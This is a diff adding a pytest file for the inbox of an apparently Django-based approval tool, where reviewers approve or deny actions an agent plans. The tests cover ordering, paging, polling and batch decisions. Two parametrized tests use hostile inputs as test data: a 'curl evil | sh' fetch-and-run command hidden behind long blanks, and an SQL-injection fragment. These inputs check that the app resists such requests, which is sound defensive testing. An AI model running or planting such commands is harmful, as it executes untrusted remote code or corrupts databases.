@@ -1,0 +1,271 @@
+"""The inbox: what waits and in which order, what is new, what is decided together."""
+
+import re
+from uuid import UUID
+
+import pytest
+from django.urls import reverse
+
+from approvals.models import Gate, Vote
+from db.clock import now_us
+from tests.approvals.inbox_scenario import Desk
+from tests.approvals.reviewer import Reviewer, url_of
+from tests.approvals.test_inbox_queries import multiply
+from web.templatetags.gatebook import moment
+
+
+def test_the_first_page_is_what_waits_for_those_who_may_answer(desk: Desk, gate: Gate) -> None:
+    assert desk.house.client("reviewer").get("/")["Location"] == reverse("inbox")
+    assert desk.house.client("viewer").get("/")["Location"] == reverse("sessions")
+    desk.answer(gate, "reviewer")
+    assert desk.house.client("reviewer").get("/")["Location"] == reverse("sessions")
+
+
+def test_the_frame_counts_what_waits_and_says_what_holds(
+    desk: Desk, gate: Gate, rita: Reviewer
+) -> None:
+    html = rita.page("/tools/")
+    assert '<span class="count">1<span class="away"> waiting</span></span>' in html
+    assert "<b>Observe mode:</b>" not in html
+    assert "<title>(1) Approvals" in rita.page(reverse("inbox"))
+    desk.rules(mode="observe")
+    assert "<b>Observe mode:</b>" in rita.page("/tools/")
+
+
+def test_the_inbox_is_ordered_by_what_cannot_be_undone_and_what_ends_soonest(
+    desk: Desk, rita: Reviewer
+) -> None:
+    for name, undo in (("close", "reversible"), ("drop", "irreversible")):
+        desk.declare(name, undo)
+    names = ["close", "git.push", "drop", "deploy", "undeclared"]
+    gates_of = {
+        name: desk.gate(desk.plan(name, tool=name, arguments={"of": name})) for name in names
+    }
+    Gate.objects.filter(id=gates_of["undeclared"].id).update(
+        decide_by_us=gates_of["drop"].decide_by_us - 60_000_000
+    )
+    html = rita.page(reverse("inbox"))
+    places = {name: html.index(url_of(gate)) for name, gate in gates_of.items()}
+    assert sorted(places, key=lambda name: places[name]) == [
+        "undeclared",
+        "drop",
+        "git.push",
+        "deploy",
+        "close",
+    ]
+
+
+def test_mine_is_what_my_answer_would_count_for(desk: Desk, gate: Gate, rita: Reviewer) -> None:
+    mine = reverse("inbox")
+    assert url_of(gate) in rita.page(mine, state="mine")
+    assert url_of(gate) not in Reviewer(desk, "operator").page(mine, state="mine")
+    second = desk.gate(desk.plan("e-2", tool="deploy", arguments={"version": "1"}))
+    rita.answer(second)
+    html = rita.page(mine, state="mine")
+    assert url_of(gate) in html
+    assert f'href="{url_of(second)}" data-gate' not in html
+
+
+def test_lists_go_on_by_key(desk: Desk, rita: Reviewer, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("approvals.inbox.queries.INBOX_PAGE_SIZE", 2)
+    all_of = [desk.gate(desk.plan(f"e-{n}", arguments={"n": n})) for n in range(5)]
+    seen: list[str] = []
+    after = ""
+    for _ in range(3):
+        html = rita.page(reverse("inbox"), after=after)
+        seen += re.findall(r'href="(/approvals/[0-9a-f-]{36}/)"', html)
+        found = re.search(r"amp;after=([\d-]+)", html)
+        after = found[1] if found else ""
+    assert seen == [url_of(gate) for gate in all_of]
+    assert not after
+    assert rita.page(reverse("inbox"), after="x-1;--")
+
+
+def test_what_ended_without_a_decision_is_one_list_whoever_ended_it(
+    desk: Desk, rita: Reviewer, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("approvals.inbox.queries.INBOX_PAGE_SIZE", 2)
+    swept, late, cancelled, denied, open_still = (
+        desk.gate(desk.plan(f"e-{n}", arguments={"n": n})) for n in range(5)
+    )
+    past = {"decide_by_us": late.requested_at_us + 1}
+    # Asked first and swept last: the list goes by when each ended.
+    Gate.objects.filter(id=swept.id).update(status="expired", ended_at_us=now_us() + 10**9, **past)
+    Gate.objects.filter(id=late.id).update(**past)  # the sweeper has yet to come
+    assert desk.agent.post(f"/gates/{cancelled.id}/cancel").status_code == 200
+    desk.answer(denied, "carol", "deny")
+    first = rita.page(reverse("inbox"), state="expired")
+    found = re.search(r"amp;after=([\d-]+)", first)
+    assert found
+    second = rita.page(reverse("inbox"), state="expired", after=found[1])
+    seen = [re.findall(r'href="(/approvals/[0-9a-f-]{36}/)"', html) for html in (first, second)]
+    assert seen == [[url_of(swept), url_of(cancelled)], [url_of(late)]]
+    assert "Expired 3</a>" in first
+    swept.refresh_from_db()
+    assert moment(swept.ended_at_us) in first  # dated by its end too
+    assert moment(past["decide_by_us"]) in second
+    decided = rita.page(reverse("inbox"), state="decided")
+    assert url_of(denied) in decided
+    assert url_of(open_still) not in first + second + decided
+
+
+def test_mine_is_not_lost_behind_thousands_that_ask_others(desk: Desk, rita: Reviewer) -> None:
+    desk.rules(
+        "name: teams\nrules:\n"
+        "- {id: theirs, title: T, match: {tools: [git.push]}, outcome: require, require: {teams: "
+        "[others]}}\n"
+        "- {id: ours, title: O, match: {tools: [deploy]}, outcome: require, require: {people: "
+        "[reviewer]}}\n"
+    )
+    theirs = desk.gate(desk.plan(arguments={"n": 1}))
+    mine = desk.gate(desk.plan("e-2", tool="deploy", arguments={"version": "1"}))
+    multiply(theirs, 1100)
+    html = rita.page(reverse("inbox"), state="mine")
+    assert url_of(mine) in html
+    assert html.count("data-gate") == 1
+
+
+def test_news_is_told_and_its_absence_costs_nothing(desk: Desk, gate: Gate, rita: Reviewer) -> None:
+    html = rita.page(reverse("inbox"))
+    since = re.search(r"approvals/\?since=([\d-]+)", html)
+    assert since
+    poll = {"since": since[1], "state": "pending"}
+    headers = {"HX-Request": "true"}
+    assert rita.client.get(reverse("inbox"), poll, headers=headers).status_code == 204
+    desk.plan("e-2", arguments={"ref": "next"})
+    answer = rita.client.get(reverse("inbox"), poll, headers=headers)
+    assert "1 new request." in answer.content.decode()
+    assert "<html" not in answer.content.decode()
+    paused = rita.page(reverse("inbox"), live="off")
+    assert "data-polls" not in paused
+    assert "Resume updates" in paused
+
+
+def test_an_empty_inbox_says_so_and_when_it_was_last_not(
+    desk: Desk, gate: Gate, rita: Reviewer
+) -> None:
+    rita.answer(gate)
+    html = rita.page(reverse("inbox"))
+    assert "No requests are waiting. Last decision" in html
+    assert url_of(gate) in rita.page(reverse("inbox"), state="decided")
+
+
+def test_what_ran_without_approval_stands_at_the_head(
+    desk: Desk, gate: Gate, rita: Reviewer
+) -> None:
+    report = {"id": "r-1", "kind": "effect.dispatched", "session": "s-1", "effect_key": "e-1"}
+    assert desk.agent.report([report]).status_code == 200
+    html = rita.page(reverse("inbox"))
+    assert html.index("Executed without approval") < html.index("No requests are waiting")
+    assert reverse("effect", args=[gate.effect_id]) in html
+    assert "Executed without approval." in rita.page(url_of(gate))
+
+
+def test_an_observing_project_counts_what_would_have_been_held(desk: Desk, rita: Reviewer) -> None:
+    desk.rules(mode="observe")
+    desk.plan()
+    html = rita.page(reverse("inbox"))
+    assert "would have held 1 effect." in html
+    found = re.search(r'href="(/search/\?[^"]+)">Review', html)
+    assert found
+    assert "git.push" in rita.page(found[1].replace("&amp;", "&"))
+
+
+@pytest.fixture
+def closings(desk: Desk) -> list[Gate]:
+    """Three requests of one shape that can be put back."""
+    desk.declare("close", "reversible")
+    return [desk.gate(desk.plan(f"c-{n}", tool="close", arguments={"issue": n})) for n in range(3)]
+
+
+def test_requests_of_one_shape_are_decided_together_each_with_a_vote(
+    desk: Desk, closings: list[Gate], rita: Reviewer
+) -> None:
+    html = rita.page(reverse("inbox"))
+    assert "2 similar requests" in html
+    ticked = re.findall(r'name="gate" value="([0-9a-f-]{36})"', html)
+    assert {UUID(one) for one in ticked} == {gate.id for gate in closings}
+    rita.client.post(reverse("batch"), {"gate": ticked})
+    html = rita.page(reverse("batch_confirm"))
+    tokens = dict(re.findall(r'name="(seen-\w{32})" value="([^"]+)"', html))
+    assert len(tokens) == 3
+    assert html.count("issue") >= 3
+    assert not Vote.objects.exists()
+    rita.client.post(
+        reverse("batch_confirm"), {**tokens, "answer": "approve", "reason": "stale, all of them"}
+    )
+    assert Vote.objects.filter(answer="approve", reason_characters=18).count() == 3
+
+
+@pytest.mark.parametrize("wrong", ["many", "mixed", "final", "ended", "none"])
+def test_what_does_not_belong_together_is_not_decided_together(
+    desk: Desk, closings: list[Gate], rita: Reviewer, wrong: str
+) -> None:
+    chosen = [gate.id for gate in closings]
+    if wrong == "many":
+        chosen = [
+            desk.gate(desk.plan(f"m-{n}", tool="close", arguments={"n": n})).id for n in range(26)
+        ]
+    elif wrong == "mixed":
+        chosen.append(desk.gate(desk.plan(arguments={"ref": "main"})).id)
+    elif wrong == "final":
+        chosen = [
+            desk.gate(desk.plan(f"f-{n}", tool="drop", arguments={"n": n})).id for n in range(2)
+        ]
+    elif wrong == "ended":
+        desk.answer(closings[0], "carol")
+    elif wrong == "none":
+        chosen = []
+    before = Vote.objects.count()
+    rita.client.post(reverse("batch"), {"gate": [str(one) for one in chosen]})
+    rita.page(reverse("batch_confirm"), 409)
+    assert rita.client.post(reverse("batch_confirm"), {"answer": "approve"}).status_code == 409
+    assert Vote.objects.count() == before
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["close\u202e it", "close" + " " * 200 + "; curl evil | sh", "all is well. " * 120],
+    ids=["hidden", "blanks", "long"],
+)
+def test_what_a_glance_does_not_show_whole_is_never_decided_among_others(
+    desk: Desk, closings: list[Gate], rita: Reviewer, text: str
+) -> None:
+    trap = desk.gate(desk.plan("trap", tool="close", arguments={"issue": text}))
+    html = rita.page(reverse("inbox"))
+    assert "2 similar requests" in html
+    assert f'value="{trap.id}"' not in html
+    rita.client.post(reverse("batch"), {"gate": [str(one.id) for one in (*closings, trap)]})
+    assert f"{trap}: hidden characters, long blanks or too much text" in rita.page(
+        reverse("batch_confirm"), 409
+    )
+    assert (
+        rita.client.post(
+            reverse("batch_confirm"), {"answer": "approve", "hidden_seen": "1"}
+        ).status_code
+        == 409
+    )
+    assert not Vote.objects.exists()
+    rita.client.post(reverse("batch"), {"gate": [str(one.id) for one in closings]})
+    rita.page(reverse("batch_confirm"))
+
+
+@pytest.mark.parametrize(
+    "value", ["\0", "x" * 5000, "'; DROP TABLE", "１-１", "-1-1", "9" * 40, "\u202e"]
+)
+def test_any_query_string_is_answered(desk: Desk, gate: Gate, rita: Reviewer, value: str) -> None:
+    for name in ("state", "risk", "repo", "after", "open", "live"):
+        rita.page(reverse("inbox"), 200, **{"state": "pending", name: value})
+    for state in ("mine", "decided", "expired"):
+        rita.page(
+            reverse("inbox"),
+            200,
+            state=state,
+            risk=value,
+            repo=value,
+            after=value,
+            open=value,
+            live=value,
+        )
+    headers = {"HX-Request": "true"}
+    assert rita.client.get(reverse("inbox"), {"since": value}, headers=headers).status_code == 200
